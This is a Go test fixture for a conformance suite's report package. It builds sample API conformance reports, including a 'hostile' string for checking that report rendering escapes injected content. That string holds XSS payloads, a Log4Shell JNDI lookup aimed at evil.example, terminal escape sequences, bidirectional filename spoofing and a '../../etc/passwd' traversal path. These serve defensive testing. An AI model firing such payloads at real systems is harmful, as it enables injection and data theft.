package reports

import (
	"strings"
	"time"
)

// hostile is what a target may answer to attack whoever reads the report.
var hostile = strings.Join([]string{
	"</script><script>alert(1)</script>", "]]>", "\x1b[31mred\x1b[0m", "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
	"\x1b]0;title\x1b\\", "${jndi:ldap://evil.example/a}", "nul\x00nul", "\u202Egnp.exe\u2066", "bad\xff\xfeutf8",
	"| `pipe` | <img src=x onerror=alert(1)> @everyone #1 [x](javascript:alert(1)) www.evil.example", "\u009b31mC1",
	"line\r\nbreak\tand tab", "\u2028separator",
}, " ")

// sample is one document with everything in it.
func sample() *Document {
	started := time.Date(2026, 11, 24, 10, 0, 0, 123456789, time.FixedZone("CST", 8*3600))
	d := &Document{
		Verdict: Nonconformant, Seed: 20261124, Started: started, Ended: started.Add(83 * time.Second),
		Suite:          Suite{Version: "0.1.0", Go: "go1.26.0"},
		Implementation: Implementation{"Acme Express Connect", "2.3.1", "https://acme.example/", "api@acme.example"},
		Specification:  Specification{"Vpc", "2016-04-28", 248, "sha256:0123"},
		Target: Target{Endpoint: "http://user:secret@127.0.0.1:8080/?AccessKeyId=secret", Region: "cn-shanghai",
			AccessPoint: "ap-cn-shanghai-a", Operator: "url", Accounts: []string{"own", "other"},
			Offered: []string{"operator", "second-account"}, Profile: "sha256:4567"},
		Totals: Totals{Checks: 9, Requests: 1234, Connections: 57, Seconds: 83.25, Retries: 1, Throttled: 2,
			LifecycleRequests: 640, LifecycleBound: 620, Passed: 2, Failed: 3, Warned: 1, Inconclusive: 1, Unsupported: 1,
			Known: 1},
		Notes:   []string{"the clock of the target is 2 s ahead", hostile},
		Residue: []string{"pc-0000000009"},
	}
	sampleChecks(d)
	sampleClauses(d)
	d.Findings = sampleFindings()
	Seal(d)
	return d
}

// rich is the sample with an answer that is far too long; it is slow to seal, so only the renderings get it.
func rich() *Document {
	d := sample()
	d.Findings[1].Observed["message"] = strings.Repeat("A", 100_000)
	Seal(d)
	return d
}

func sampleChecks(d *Document) {
	state7 := []string{"CPC-STATE-007"}
	d.Checks = []CheckResult{
		{Name: "Cancel in Initial", Family: "lifecycle", Format: "json", Clauses: []string{"CPC-STATE-001"},
			Verdict: Pass, Requests: 6, Seconds: 0.25},
		{Name: "Cancel in Enabled", Family: "lifecycle", Format: "json", Clauses: state7, Verdict: Fail,
			Requests: 9, Seconds: 0.5, Findings: []string{"F1"}},
		{Name: "Cancel in Enabled", Family: "lifecycle", Format: "xml", Clauses: state7, Verdict: Fail,
			Requests: 9, Seconds: 0.5, Findings: []string{"F1"}},
		{Name: "Delete in Allocation Failed", Family: "lifecycle", Format: "xml", Clauses: []string{"CPC-STATE-030"},
			Verdict: Unsupported, Reason: "needs an operator hook that can reach Allocation Failed"},
		{Name: "Enable in Confirmed", Family: "lifecycle", Format: "json", Clauses: []string{"CPC-STATE-040"},
			Verdict: Inconclusive, Reason: "the answer took longer than 10s", Requests: 3, Seconds: 10},
		{Name: "a repeated token answers as the first time", Family: "idempotency", Format: "json",
			Clauses: []string{"CPC-IDEM-001"}, Verdict: Pass, Requests: 4, Seconds: 0.1},
		{Name: "a token of 65 characters is refused", Family: "idempotency", Format: "json",
			Clauses: []string{"CPC-IDEM-020"}, Verdict: Fail, Findings: []string{"F4"}, Known: "ticket 4711"},
		{Name: "messages are those of the page", Family: "errors", Format: "xml", Clauses: []string{"CPC-ERR-005"},
			Verdict: Warn, Findings: []string{"F3"}, Requests: 2, Seconds: 0.05},
		{Name: "an error names its host " + hostile, Family: "errors", Format: "xml", Clauses: []string{"CPC-ERR-001"},
			Verdict: Fail, Reason: hostile, Findings: []string{"F2"}, Requests: 2, Seconds: 0.05},
	}
	for i := range d.Checks {
		c := &d.Checks[i]
		d.Planned = append(d.Planned, PlannedCheck{c.Name, c.Family, c.Format, c.Clauses})
	}
	d.Planned = append(d.Planned, PlannedCheck{"signatures expire", "signing", "json", []string{"CPC-SIGN-001"}})
}

func sampleClauses(d *Document) {
	row := func(id, level, verdict, statement, reason string, known bool, findings ...string) {
		d.Clauses = append(d.Clauses, ClauseResult{ID: id, Level: level, Statement: statement, Source: "DOC-CANCEL",
			Verdict: verdict, Reason: reason, Checks: []string{"some check"}, Findings: findings, Known: known})
	}
	row("CPC-STATE-001", Must, Pass, "A connection in Initial can be cancelled.", "", false)
	row("CPC-STATE-007", Must, Fail, "A connection in Enabled cannot be cancelled.", "", false, "F1")
	row("CPC-STATE-030", Must, Unsupported, "A connection in Allocation Failed can be deleted.", "no operator", false)
	row("CPC-STATE-040", Must, Inconclusive, "A connection in Confirmed can be enabled.", "time-out", false)
	row("CPC-IDEM-001", Must, Pass, "A repeated token has the same result.", "", false)
	row("CPC-IDEM-012", May, Pass, "A replay may carry a fresh RequestId.", "", false)
	row("CPC-IDEM-020", Must, Fail, "A token has at most 64 characters.", "", true, "F4")
	row("CPC-ERR-001", Must, Fail, "An error carries its HostId.", "", false, "F2")
	row("CPC-ERR-005", Should, Warn, "Messages are those of the page | `as printed`.", "", false, "F3")
	row("CPC-SIGN-001", Must, Untested, "A signature is good for 15 minutes.", "the run ended", false)
	row("CPC-TIME-001", Should, NotObservable, "Nobody sees this from outside.", "needs a clock", false)
	d.Untested = []UntestedClause{{"CPC-SIGN-001", "the run ended"}, {"CPC-TIME-001", "needs a movable clock"}}
	d.Observations = []Observation{
		{Clause: "CPC-IDEM-012", Seen: "fresh RequestId on replay", Count: 12, Stance: "fresh"},
		{Clause: "CPC-ERR-009", Seen: hostile, Count: 1},
	}
}

func sampleFindings() []Finding {
	return []Finding{
		{ID: "F1", Clause: "CPC-STATE-007", Also: []string{"CPC-STATE-015"}, Level: Must,
			Title: "An Enabled connection was cancelled.", Statement: "A connection in Enabled cannot be cancelled.",
			Source: "DOC-CANCEL", Check: "Cancel in Enabled", Format: "json", Count: 4,
			Others: []string{"Cancel in Enabled [XML]"},
			Plan:   []string{"c1 := Create()", "operator.Advance(c1, Enabled)", "Cancel(c1)"},
			Steps: []Step{{1, "c1 := Create()", "200  pc-0000000001", false},
				{2, "operator.Advance(c1, Enabled)", "done", false}, {3, "Cancel(c1)", "200", true}},
			Expected: []string{"400 Forbidden.NotAllowedInState"},
			Observed: map[string]any{"status": 200, "state": "Canceled", "requestId": "1B0F-1", "late": true},
			Trace:    "traces/F1.yaml", Curl: "traces/F1.sh", Replay: "pconform replay pconform-out/traces/F1.yaml"},
		{ID: "F2", Clause: "CPC-ERR-001", Level: Must, Title: "The error says something else. " + hostile,
			Statement: "An error carries its HostId.", Source: "DOC-RPC", Check: "an error names its host " + hostile,
			Format: "xml", Count: 1, Plan: []string{"Cancel(nothing)"},
			Steps:    []Step{{1, "Cancel(" + hostile + ")", hostile, true}},
			Expected: []string{"404 InvalidPhysicalConnectionId.NotFound", "HostId " + strings.Repeat("of some length ", 9)},
			Observed: map[string]any{"status": 404, "code": hostile, "message": strings.Repeat("A", 1000),
				"bodyExcerpt": "<Error>\n  <Code>" + hostile + "</Code>\n</Error>", "nested": map[string]any{"a": []int{1}},
				hostile: hostile},
			Trace: "../../etc/passwd", Curl: "javascript:alert(1)", Replay: "pconform replay " + hostile},
		{ID: "F3", Clause: "CPC-ERR-005", Level: Should, Title: "The message is another one.", Count: 2,
			Check: "messages are those of the page", Format: "xml", Plan: longPlan(),
			Expected: []string{"Message: The request does not allow in this state."},
			Observed: map[string]any{"message": "No."}, Trace: "traces/F3.yaml"},
		{ID: "F4", Clause: "CPC-IDEM-020", Level: Must, Title: "A token of 65 characters was accepted.", Count: 1,
			Check: "a token of 65 characters is refused", Format: "json"},
	}
}

func longPlan() []string {
	var out []string
	for range 40 {
		out = append(out, "Describe()")
	}
	return out
}

// healthy is a document without anything to complain about.
func healthy() *Document {
	d := &Document{Verdict: Conformant, Seed: 1, Started: time.Unix(1_800_000_000, 0),
		Ended: time.Unix(1_800_000_042, 0), Suite: Suite{"0.1.0", "go1.26.0"}}
	for _, family := range []string{"lifecycle", "idempotency", "rendering", "errors", "signing", "listing", "sequences"} {
		for _, format := range []string{"json", "xml"} {
			c := CheckResult{Name: family + " holds", Family: family, Format: format, Verdict: Pass, Seconds: 1}
			d.Checks = append(d.Checks, c)
			d.Planned = append(d.Planned, PlannedCheck{Name: c.Name, Family: family, Format: format})
			d.Totals.Checks++
			d.Totals.Passed++
		}
		d.Clauses = append(d.Clauses, ClauseResult{ID: "CPC-" + family, Level: Must, Verdict: Pass})
	}
	for range 50 {
		d.Observations = append(d.Observations, Observation{Clause: "CPC-X-001", Seen: "this", Count: 1})
	}
	Seal(d)
	return d
}
